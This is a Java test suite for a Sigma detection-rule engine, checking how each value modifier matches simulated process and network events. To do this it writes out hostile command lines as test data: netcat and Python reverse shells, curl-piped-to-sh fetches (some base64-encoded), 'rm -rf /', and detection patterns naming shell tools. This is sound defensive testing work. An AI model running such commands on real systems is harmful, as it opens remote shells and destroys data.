package dev.bulwark.sigma;

import static dev.bulwark.sigma.SigmaTestSupport.connect;
import static dev.bulwark.sigma.SigmaTestSupport.exec;
import static dev.bulwark.sigma.SigmaTestSupport.fires;
import static org.assertj.core.api.Assertions.assertThat;

import java.nio.charset.StandardCharsets;
import java.util.Base64;
import java.util.List;

import org.junit.jupiter.api.Test;

import dev.bulwark.schemas.SecurityEvent;

/** One focused match / non-match test per value modifier and value form. */
class SigmaModifierTest {

    @Test
    void plainValueMatchesWholeFieldCaseInsensitively() {
        String detection = """
                selection:
                    Image: '/usr/bin/NC'
                condition: selection
                """;
        assertThat(fires(detection, exec("/usr/bin/nc", "nc -l"))).isTrue();
        assertThat(fires(detection, exec("/usr/bin/ncat", "ncat -l"))).isFalse();
    }

    @Test
    void casedModifierMakesComparisonCaseSensitive() {
        String detection = """
                selection:
                    Image|cased: '/usr/bin/NC'
                condition: selection
                """;
        assertThat(fires(detection, exec("/usr/bin/NC", "NC"))).isTrue();
        assertThat(fires(detection, exec("/usr/bin/nc", "nc"))).isFalse();
    }

    @Test
    void starAndQuestionMarkAreWildcards() {
        String detection = """
                selection:
                    Image: '/usr/*/n?'
                condition: selection
                """;
        assertThat(fires(detection, exec("/usr/local/bin/nc", "nc"))).isTrue();
        assertThat(fires(detection, exec("/usr/bin/ncat", "ncat"))).isFalse();
    }

    /** "{@code ?} to replace a single mandatory character": a character outside the BMP is one, not two. */
    @Test
    void questionMarkAndStarCountCharactersNotUtf16Units() {
        String one = """
                selection:
                    CommandLine: 'echo ?'
                condition: selection
                """;
        assertThat(fires(one, exec("/bin/echo", "echo \uD83D\uDE00"))).as("U+1F600 is one character").isTrue();
        assertThat(fires(one, exec("/bin/echo", "echo \uD801\uDC37"))).as("U+10437").isTrue();
        assertThat(fires(one, exec("/bin/echo", "echo ab"))).isFalse();

        String two = one.replace("'echo ?'", "'echo ??'");
        assertThat(fires(two, exec("/bin/echo", "echo \uD83D\uDE00"))).isFalse();
        assertThat(fires(two, exec("/bin/echo", "echo \uD83D\uDE00\uD83D\uDE00"))).isTrue();
        assertThat(fires(two, exec("/bin/echo", "echo a\uD83D\uDE00"))).isTrue();

        String around = one.replace("'echo ?'", "'echo ?*?'");
        assertThat(fires(around, exec("/bin/echo", "echo \uD83D\uDE00"))).as("two characters needed").isFalse();
        assertThat(fires(around, exec("/bin/echo", "echo \uD83D\uDE00x\uD83D\uDE00"))).isTrue();

        String cased = one.replace("CommandLine:", "CommandLine|cased:").replace("'echo ?'", "'echo ?!'");
        assertThat(fires(cased, exec("/bin/echo", "echo \uD83D\uDE00!"))).isTrue();
        assertThat(fires(cased, exec("/bin/echo", "echo \uD83D!"))).as("a lone surrogate is one unit too").isTrue();
    }

    @Test
    void backslashEscapesWildcardsAndItself() {
        String literalStar = """
                selection:
                    CommandLine: 'echo \\*'
                condition: selection
                """;
        assertThat(fires(literalStar, exec("/bin/echo", "echo *"))).isTrue();
        assertThat(fires(literalStar, exec("/bin/echo", "echo x"))).isFalse();

        String backslashThenWildcard = """
                selection:
                    CommandLine: 'C:\\\\Temp\\\\*'
                condition: selection
                """;
        assertThat(fires(backslashThenWildcard, exec("/bin/x", "C:\\Temp\\evil.exe"))).isTrue();
        assertThat(fires(backslashThenWildcard, exec("/bin/x", "C:\\Tmp\\evil.exe"))).isFalse();

        String loneBackslashIsLiteral = """
                selection:
                    CommandLine: 'C:\\Windows\\System32'
                condition: selection
                """;
        assertThat(fires(loneBackslashIsLiteral, exec("/bin/x", "c:\\windows\\system32"))).isTrue();
        assertThat(fires(loneBackslashIsLiteral, exec("/bin/x", "C:/Windows/System32"))).isFalse();

        String escapedQuestionMark = """
                selection:
                    CommandLine|endswith: 'really\\?'
                condition: selection
                """;
        assertThat(fires(escapedQuestionMark, exec("/bin/x", "x really?"))).isTrue();
        assertThat(fires(escapedQuestionMark, exec("/bin/x", "x really!"))).isFalse();
    }

    @Test
    void containsMatchesAnywhere() {
        String detection = """
                selection:
                    CommandLine|contains: ' -E '
                condition: selection
                """;
        assertThat(fires(detection, exec("/usr/bin/nc", "nc 10.0.0.1 4444 -e /bin/sh"))).isTrue();
        assertThat(fires(detection, exec("/usr/bin/nc", "nc -l 4444"))).isFalse();
    }

    @Test
    void startswithMatchesPrefix() {
        String detection = """
                selection:
                    Image|startswith: '/dev/shm/'
                condition: selection
                """;
        assertThat(fires(detection, exec("/dev/shm/.x/miner", "miner"))).isTrue();
        assertThat(fires(detection, exec("/tmp/dev/shm/miner", "miner"))).isFalse();
    }

    @Test
    void endswithMatchesSuffix() {
        String detection = """
                selection:
                    Image|endswith: '/ncat'
                condition: selection
                """;
        assertThat(fires(detection, exec("/usr/bin/ncat", "ncat"))).isTrue();
        assertThat(fires(detection, exec("/usr/bin/ncat.sh", "ncat.sh"))).isFalse();
    }

    @Test
    void valueListIsOr() {
        String detection = """
                selection:
                    Image|endswith:
                        - '/nc'
                        - '/ncat'
                condition: selection
                """;
        assertThat(fires(detection, exec("/bin/nc", "nc"))).isTrue();
        assertThat(fires(detection, exec("/bin/ncat", "ncat"))).isTrue();
        assertThat(fires(detection, exec("/bin/socat", "socat"))).isFalse();
    }

    @Test
    void allModifierMakesValueListAnd() {
        String detection = """
                selection:
                    CommandLine|contains|all:
                        - 'import'
                        - 'pty'
                        - 'socket'
                condition: selection
                """;
        assertThat(fires(detection, exec("/usr/bin/python3", "python3 -c import socket,pty;pty.spawn('sh')"))).isTrue();
        assertThat(fires(detection, exec("/usr/bin/python3", "python3 -c import socket"))).isFalse();
    }

    /*
     * 'all' links the listed values with AND; windash, base64offset and expand turn each value into several variants
     * ("all possible permutation of strings", "three variants for shifts by zero to two bytes", "expand to value
     * list"), which stay OR-ed: each listed value must match in some of its variants, not every variant of it.
     */

    @Test
    void allWithWindashNeedsEachValueInSomeDashForm() {
        String detection = """
                selection:
                    CommandLine|windash|contains|all:
                        - ' -exec '
                        - ' -delete'
                condition: selection
                """;
        assertThat(fires(detection, exec("/usr/bin/find", "find . -exec rm {} ; -delete"))).isTrue();
        assertThat(fires(detection, exec("/usr/bin/find", "find . /exec rm {} ; \u2013delete"))).isTrue();
        assertThat(fires(detection, exec("/usr/bin/find", "find . -exec rm {} ;"))).isFalse();
        assertThat(fires(detection, exec("/usr/bin/find", "find . -delete"))).isFalse();
    }

    @Test
    void allWithBase64offsetNeedsEachValueAtSomeOffset() {
        String detection = """
                selection:
                    CommandLine|base64offset|contains|all:
                        - 'curl '
                        - '| sh'
                condition: selection
                """;
        for (String prefix : List.of("", "a", "ab")) {
            String encoded = Base64.getEncoder().encodeToString((prefix + "curl http://x/i | sh")
                    .getBytes(StandardCharsets.UTF_8));
            assertThat(fires(detection, exec("/bin/sh", "sh -c echo " + encoded))).as("offset %d", prefix.length())
                    .isTrue();
        }
        String half = Base64.getEncoder().encodeToString("curl http://x/i > out".getBytes(StandardCharsets.UTF_8));
        assertThat(fires(detection, exec("/bin/sh", "sh -c echo " + half))).isFalse();
    }

    @Test
    void allWithExpandNeedsEachValueInSomeExpansion() throws SigmaRuleException {
        FieldMapping mapping = FieldMapping.defaults().withOverrides("mine.yaml", """
                placeholders:
                    fetchers: [curl, wget]
                """);
        String yaml = SigmaTestSupport.processRule("""
                selection:
                    CommandLine|expand|contains|all:
                        - '%fetchers% '
                        - ' -O '
                condition: selection
                """);
        CompiledRuleSet rules = SigmaTestSupport.load(SigmaEngine.create(mapping), yaml);
        assertThat(rules.match(exec("/usr/bin/wget", "wget -O /tmp/x http://x"))).hasSize(1);
        assertThat(rules.match(exec("/usr/bin/curl", "curl -O http://x"))).hasSize(1);
        assertThat(rules.match(exec("/usr/bin/wget", "wget http://x"))).isEmpty();
        assertThat(rules.match(exec("/usr/bin/nc", "nc -O x"))).isEmpty();
    }

    @Test
    void regexSearchesAnywhereAndIsCaseSensitiveByDefault() {
        String detection = """
                selection:
                    CommandLine|re: 'nc .* -e /bin/(ba)?sh'
                condition: selection
                """;
        assertThat(fires(detection, exec("/bin/nc", "/bin/nc 10.0.0.1 4444 -e /bin/bash"))).isTrue();
        assertThat(fires(detection, exec("/bin/nc", "/bin/NC 10.0.0.1 4444 -E /BIN/BASH"))).isFalse();
    }

    @Test
    void regexSubModifiersIgnoreCaseMultilineAndDotall() {
        String ignoreCase = """
                selection:
                    CommandLine|re|i: '^curl .*\\| *sh$'
                condition: selection
                """;
        assertThat(fires(ignoreCase, exec("/usr/bin/curl", "CURL http://x | SH"))).isTrue();
        assertThat(fires(ignoreCase, exec("/usr/bin/curl", "CURL http://x > out"))).isFalse();

        String multiline = """
                selection:
                    CommandLine|re|m: '^rm -rf /$'
                condition: selection
                """;
        assertThat(fires(multiline, exec("/bin/sh", "echo hi\nrm -rf /\necho done"))).isTrue();
        assertThat(fires(multiline, exec("/bin/sh", "echo hi; rm -rf /; echo done"))).isFalse();

        String dotall = """
                selection:
                    CommandLine|re|s: 'begin.end'
                condition: selection
                """;
        assertThat(fires(dotall, exec("/bin/sh", "begin\nend"))).isTrue();
        String noDotall = dotall.replace("|re|s", "|re");
        assertThat(fires(noDotall, exec("/bin/sh", "begin\nend"))).isFalse();
    }

    @Test
    void base64ModifierMatchesTheEncodedValue() {
        String detection = """
                selection:
                    CommandLine|base64|contains: '/bin/bash -i'
                condition: selection
                """;
        String encoded = Base64.getEncoder().encodeToString("/bin/bash -i".getBytes(StandardCharsets.UTF_8));
        assertThat(fires(detection, exec("/bin/sh", "echo " + encoded + " | base64 -d | sh"))).isTrue();
        assertThat(fires(detection, exec("/bin/sh", "echo /bin/bash -i"))).isFalse();
    }

    @Test
    void base64offsetMatchesAtEveryByteOffset() {
        assertThat(PredicateCompiler.base64Offsets("http://".getBytes(StandardCharsets.UTF_8)))
                .containsExactly("aHR0cDovL", "h0dHA6Ly", "odHRwOi8v");
        String detection = """
                selection:
                    CommandLine|base64offset|contains: 'http://'
                condition: selection
                """;
        for (String prefix : List.of("", "a", "ab")) {
            String encoded = Base64.getEncoder().encodeToString((prefix + "http://evil.example/x").getBytes(StandardCharsets.UTF_8));
            assertThat(fires(detection, exec("/bin/sh", "sh -c echo " + encoded))).as("offset %d", prefix.length()).isTrue();
        }
        String other = Base64.getEncoder().encodeToString("ftp://evil.example/x".getBytes(StandardCharsets.UTF_8));
        assertThat(fires(detection, exec("/bin/sh", "sh -c echo " + other))).isFalse();
    }

    @Test
    void utf16EncodingsCombineWithBase64() {
        String wide = """
                selection:
                    CommandLine|wide|base64offset|contains: 'whoami'
                condition: selection
                """;
        String le = Base64.getEncoder().encodeToString("x;whoami".getBytes(StandardCharsets.UTF_16LE));
        String be = Base64.getEncoder().encodeToString("x;whoami".getBytes(StandardCharsets.UTF_16BE));
        String utf8 = Base64.getEncoder().encodeToString("x;whoami".getBytes(StandardCharsets.UTF_8));
        String otherLe = Base64.getEncoder().encodeToString("x;hostname".getBytes(StandardCharsets.UTF_16LE));
        assertThat(fires(wide, exec("/bin/pwsh", "pwsh -enc " + le))).isTrue();
        assertThat(fires(wide, exec("/bin/pwsh", "pwsh -enc " + utf8))).isFalse();
        assertThat(fires(wide, exec("/bin/pwsh", "pwsh -enc " + otherLe))).isFalse();

        String bigEndian = wide.replace("|wide|", "|utf16be|");
        assertThat(fires(bigEndian, exec("/bin/pwsh", "pwsh -enc " + be))).isTrue();
        assertThat(fires(bigEndian, exec("/bin/pwsh", "pwsh -enc " + utf8))).isFalse();

        String withBom = """
                selection:
                    CommandLine|utf16|base64|contains: 'id'
                condition: selection
                """;
        byte[] bom = {(byte) 0xFF, (byte) 0xFE, 'i', 0, 'd', 0};
        assertThat(fires(withBom, exec("/bin/pwsh", "pwsh -enc " + Base64.getEncoder().encodeToString(bom)))).isTrue();
        assertThat(fires(withBom, exec("/bin/pwsh", "pwsh -enc " + Base64.getEncoder().encodeToString(
                "id".getBytes(StandardCharsets.UTF_16LE))))).isFalse();
    }

    @Test
    void windashMatchesEveryDashForm() {
        String detection = """
                selection:
                    CommandLine|windash|contains: ' -exec '
                condition: selection
                """;
        for (String dash : List.of("-", "/", "\u2013", "\u2014", "\u2015")) {
            assertThat(fires(detection, exec("/usr/bin/find", "find . " + dash + "exec sh ;"))).as(dash).isTrue();
        }
        assertThat(fires(detection, exec("/usr/bin/find", "find . exec sh ;"))).isFalse();
        assertThat(Glob.parse("a-b -c").windashVariants(100)).hasSize(5);
    }

    @Test
    void cidrMatchesIpv4Networks() {
        String detection = """
                selection:
                    DestinationIp|cidr: '10.0.0.0/8'
                condition: selection
                """;
        assertThat(firesOnConnection(detection, connect("/bin/bash", "10.1.2.3", 443))).isTrue();
        assertThat(firesOnConnection(detection, connect("/bin/bash", "::ffff:10.9.9.9", 443))).isTrue();
        assertThat(firesOnConnection(detection, connect("/bin/bash", "11.0.0.1", 443))).isFalse();
        assertThat(firesOnConnection(detection, connect("/bin/bash", "not-an-ip", 443))).isFalse();
    }

    @Test
    void cidrMatchesIpv6Networks() {
        String detection = """
                selection:
                    DestinationIp|cidr:
                        - 'fe80::/10'
                        - '::1/128'
                condition: selection
                """;
        assertThat(firesOnConnection(detection, connect("/bin/bash", "fe80::1ff:fe23:4567:890a", 443))).isTrue();
        assertThat(firesOnConnection(detection, connect("/bin/bash", "::1", 443))).isTrue();
        assertThat(firesOnConnection(detection, connect("/bin/bash", "2001:db8::1", 443))).isFalse();
        assertThat(firesOnConnection(detection, connect("/bin/bash", "10.0.0.1", 443))).isFalse();
    }

    @Test
    void existsTestsPresence() {
        String present = """
                selection:
                    ParentImage|exists: true
                condition: selection
                """;
        SecurityEvent withParent = exec("/bin/sh", "sh", "/usr/bin/java", "java -jar app.jar");
        SecurityEvent orphan = exec("/bin/sh", "sh");
        assertThat(fires(present, withParent)).isTrue();
        assertThat(fires(present, orphan)).isFalse();
        String absent = present.replace("true", "false");
        assertThat(fires(absent, orphan)).isTrue();
        assertThat(fires(absent, withParent)).isFalse();
    }

    /**
     * Specification: exists is true when the field is present, whatever its value, null included. A field the source
     * sent as null is in the event's null_fields; one it did not send is not.
     */
    @Test
    void aFieldSentAsNullExistsAndAnAbsentOneDoesNot() {
        String rule = SigmaTestSupport.rule("product: bulwark", """
                selection:
                    attributes['k8s.ns.name']|exists: true
                condition: selection
                """);
        SecurityEvent sentNull = SigmaTestSupport.base("falco", List.of("process"), List.of("start"))
                .setNullFields(List.of("attributes['k8s.ns.name']")).build();
        SecurityEvent absent = SigmaTestSupport.base("falco", List.of("process"), List.of("start")).build();
        SecurityEvent valued = SigmaTestSupport.base("falco", List.of("process"), List.of("start"))
                .setAttributes(java.util.Map.of("k8s.ns.name", "shop")).build();
        CompiledRuleSet present = SigmaEngine.create().loadSources(java.util.Map.of("r.yml", rule)).ruleSet();
        assertThat(present.match(sentNull)).as("present, null").hasSize(1);
        assertThat(present.match(valued)).as("present, valued").hasSize(1);
        assertThat(present.match(absent)).as("absent").isEmpty();
        CompiledRuleSet missing = SigmaEngine.create().loadSources(java.util.Map.of("r.yml",
                rule.replace("|exists: true", "|exists: false"))).ruleSet();
        assertThat(missing.match(sentNull)).isEmpty();
        assertThat(missing.match(absent)).hasSize(1);
        // A null value matches both: the field is null or absent.
        CompiledRuleSet isNull = SigmaEngine.create().loadSources(java.util.Map.of("r.yml",
                rule.replace("|exists: true", ": null"))).ruleSet();
        assertThat(isNull.match(sentNull)).hasSize(1);
        assertThat(isNull.match(absent)).hasSize(1);
        assertThat(isNull.match(valued)).isEmpty();
    }

    @Test
    void nullMatchesAbsentField() {
        String detection = """
                selection:
                    Image|endswith: '/sh'
                orphan:
                    ParentImage: null
                condition: selection and orphan
                """;
        assertThat(fires(detection, exec("/bin/sh", "sh"))).isTrue();
        assertThat(fires(detection, exec("/bin/sh", "sh", "/usr/sbin/sshd", "sshd"))).isFalse();
    }

    @Test
    void emptyStringMatchesOnlyEmptyValue() {
        String detection = """
                selection:
                    Image|endswith: '/sh'
                    CurrentDirectory: ''
                condition: selection
                """;
        SecurityEvent event = exec("/bin/sh", "sh");
        event.getProcess().setWorkingDirectory("");
        assertThat(fires(detection, event)).isTrue();
        assertThat(fires(detection, exec("/bin/sh", "sh"))).isFalse();
    }

    @Test
    void numericComparisons() {
        SecurityEvent event = exec("/bin/sh", "sh");
        event.getProcess().setPid(500L);
        assertThat(fires(pid("gt", 499), event)).isTrue();
        assertThat(fires(pid("gt", 500), event)).isFalse();
        assertThat(fires(pid("gte", 500), event)).isTrue();
        assertThat(fires(pid("gte", 501), event)).isFalse();
        assertThat(fires(pid("lt", 501), event)).isTrue();
        assertThat(fires(pid("lt", 500), event)).isFalse();
        assertThat(fires(pid("lte", 500), event)).isTrue();
        assertThat(fires(pid("lte", 499), event)).isFalse();
    }

    @Test
    void numberValueMatchesNumericField() {
        String detection = """
                selection:
                    DestinationPort:
                        - 4444
                        - 1337
                condition: selection
                """;
        assertThat(firesOnConnection(detection, connect("/bin/bash", "203.0.113.9", 4444))).isTrue();
        assertThat(firesOnConnection(detection, connect("/bin/bash", "203.0.113.9", 443))).isFalse();
    }

    @Test
    void neqNegatesTheItem() {
        String detection = """
                selection:
                    Image|endswith: '/sh'
                    User|neq: 'root'
                condition: selection
                """;
        SecurityEvent nobody = exec("/bin/sh", "sh");
        nobody.getProcess().setUserName("nobody");
        assertThat(fires(detection, nobody)).isTrue();
        assertThat(fires(detection, exec("/bin/sh", "sh"))).isFalse();
    }

    @Test
    void fieldrefComparesTwoFieldsOfTheEvent() {
        String detection = """
                selection:
                    Image|fieldref: ParentImage
                condition: selection
                """;
        assertThat(fires(detection, exec("/usr/bin/bash", "bash", "/usr/bin/BASH", "bash"))).isTrue();
        assertThat(fires(detection, exec("/usr/bin/bash", "bash", "/usr/bin/sshd", "sshd"))).isFalse();
        assertThat(fires(detection, exec("/usr/bin/bash", "bash"))).isFalse();

        String contains = """
                selection:
                    CommandLine|fieldref|contains: ParentImage
                condition: selection
                """;
        assertThat(fires(contains, exec("/bin/sh", "sh -c /usr/bin/java -version", "/usr/bin/java", "java"))).isTrue();
        assertThat(fires(contains, exec("/bin/sh", "sh -c id", "/usr/bin/java", "java"))).isFalse();
    }

    @Test
    void expandResolvesPlaceholdersFromTheMapping() throws SigmaRuleException {
        FieldMapping mapping = FieldMapping.defaults().withOverrides("mine.yaml", """
                placeholders:
                    shells: ['/bin/bash', '/bin/sh']
                """);
        String yaml = SigmaTestSupport.processRule("""
                selection:
                    Image|expand: '%shells%'
                condition: selection
                """);
        CompiledRuleSet rules = SigmaTestSupport.load(SigmaEngine.create(mapping), yaml);
        assertThat(rules.match(exec("/bin/sh", "sh"))).hasSize(1);
        assertThat(rules.match(exec("/bin/bash", "bash"))).hasSize(1);
        assertThat(rules.match(exec("/bin/zsh", "zsh"))).isEmpty();
    }

    /*
     * "A plain percent character can be used by escaping it with a backslash": field: %name% is literal,
     * field|expand: %name% a placeholder, field|expand: \%plain%name% the plain value %plain and the placeholder.
     */
    @Test
    void anEscapedPercentInExpandIsAPlainPercent() throws SigmaRuleException {
        FieldMapping mapping = FieldMapping.defaults().withOverrides("mine.yaml", """
                placeholders:
                    admins: [root, admin]
                """);
        SigmaEngine engine = SigmaEngine.create(mapping);
        CompiledRuleSet rules = SigmaTestSupport.load(engine, SigmaTestSupport.processRule("""
                selection:
                    CommandLine|expand|endswith: 'su \\%plain%admins%'
                condition: selection
                """));
        assertThat(rules.match(exec("/bin/su", "su %plainroot"))).hasSize(1);
        assertThat(rules.match(exec("/bin/su", "su %plainadmin"))).hasSize(1);
        assertThat(rules.match(exec("/bin/su", "su %plain%admins%"))).isEmpty();
        assertThat(rules.match(exec("/bin/su", "su \\%plainroot"))).as("the escaping backslash is gone").isEmpty();

        CompiledRuleSet percents = SigmaTestSupport.load(engine, SigmaTestSupport.processRule("""
                selection:
                    CommandLine|expand|endswith: '\\%admins\\% = 100\\%'
                condition: selection
                """));
        assertThat(percents.match(exec("/bin/sh", "echo %admins% = 100%"))).hasSize(1);
        assertThat(percents.match(exec("/bin/sh", "echo root = 100%"))).isEmpty();

        CompiledRuleSet backslash = SigmaTestSupport.load(engine, SigmaTestSupport.processRule("""
                selection:
                    CommandLine|expand|endswith: 'C:\\\\%admins%'
                condition: selection
                """));
        assertThat(backslash.match(exec("/bin/sh", "dir C:\\root"))).as("an escaped backslash, then the placeholder")
                .hasSize(1);

        CompiledRuleSet plain = SigmaTestSupport.load(engine, SigmaTestSupport.processRule("""
                selection:
                    CommandLine|endswith: ' %admins%'
                condition: selection
                """));
        assertThat(plain.match(exec("/bin/sh", "echo %admins%"))).as("without expand: literal").hasSize(1);
        assertThat(plain.match(exec("/bin/sh", "echo root"))).isEmpty();
    }

    /*
     * "expand: Modifier for expansion of placeholders in values. The final behaviour of the replacement is determined
     * by processing pipeline transformations": a placeholder stands for its values, so a value's own backslash escapes
     * nothing of the rule around it (C:\Temp\ then the rule's * is still a wildcard).
     */
    @Test
    void aPlaceholderValueEscapesNothingOfTheRuleAroundIt() throws SigmaRuleException {
        FieldMapping mapping = FieldMapping.defaults().withOverrides("mine.yaml", """
                placeholders:
                    temp: ['C:\\Temp\\']
                    marks: ['%b%', '\\']
                """);
        SigmaEngine engine = SigmaEngine.create(mapping);
        CompiledRuleSet rules = SigmaTestSupport.load(engine, SigmaTestSupport.processRule("""
                selection:
                    CommandLine|expand: '%temp%*.exe'
                condition: selection
                """));
        assertThat(rules.match(exec("/bin/x", "C:\\Temp\\evil.exe"))).as("the rule's * is a wildcard").hasSize(1);
        assertThat(rules.match(exec("/bin/x", "C:\\Temp\\*.exe"))).hasSize(1);
        assertThat(rules.match(exec("/bin/x", "C:\\Tmp\\evil.exe"))).isEmpty();

        CompiledRuleSet marks = SigmaTestSupport.load(engine, SigmaTestSupport.processRule("""
                selection:
                    CommandLine|expand|startswith: '%marks%?x'
                condition: selection
                """));
        assertThat(marks.match(exec("/bin/x", "%b%!x"))).as("a value is not expanded again").hasSize(1);
        assertThat(marks.match(exec("/bin/x", "\\!x"))).as("the rule's ? is a wildcard").hasSize(1);
        assertThat(marks.match(exec("/bin/x", "x!x"))).isEmpty();
    }

    @Test
    void unresolvedPlaceholderIsALoadErrorNamingIt() {
        String yaml = SigmaTestSupport.processRule("""
                selection:
                    Image|expand: '%admin_shells%'
                condition: selection
                """);
        RuleProblem problem = SigmaTestSupport.failure(SigmaEngine.create(), "expand.yml", yaml);
        assertThat(problem.reason()).contains("unresolved placeholder %admin_shells%");
        assertThat(problem.location().line()).isEqualTo(10);
    }

    private static String pid(String operator, int bound) {
        return "selection:\n    ProcessId|" + operator + ": " + bound + "\ncondition: selection\n";
    }

    private static boolean firesOnConnection(String detection, SecurityEvent event) {
        return SigmaTestSupport.fires(SigmaTestSupport.NETWORK_CONNECTION, detection, event);
    }
}
